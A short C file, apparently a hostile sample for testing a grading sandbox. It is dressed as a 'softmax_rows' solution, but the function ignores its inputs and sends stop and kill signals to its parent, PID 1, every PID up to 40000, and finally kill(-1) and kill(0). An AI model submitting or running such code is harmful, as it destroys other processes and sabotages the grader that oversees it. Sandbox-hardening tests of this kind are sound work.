// Tries: to end, or to stop, every process in sight: its parent, the sandbox's
// first, the grader, the neighbour.
// Task: ch01_activations softmax-rows
// Loses: chapter
#include <signal.h>
#include <stdlib.h>
#include <unistd.h>

void softmax_rows(float *y, const float *x, size_t rows, size_t cols)
{
    static const int signals[] = {SIGSTOP, SIGINT, SIGTERM, SIGHUP, SIGKILL};
    (void)y, (void)x, (void)rows, (void)cols;
    for (int i = 0; i < 5; i++) {
        kill(getppid(), signals[i]);
        kill(1, signals[i]);
        for (pid_t pid = 2; pid < 40000; pid++)
            if (pid != getpid())
                kill(pid, signals[i]);
    }
    kill(-1, SIGKILL);
    kill(0, SIGKILL);
}
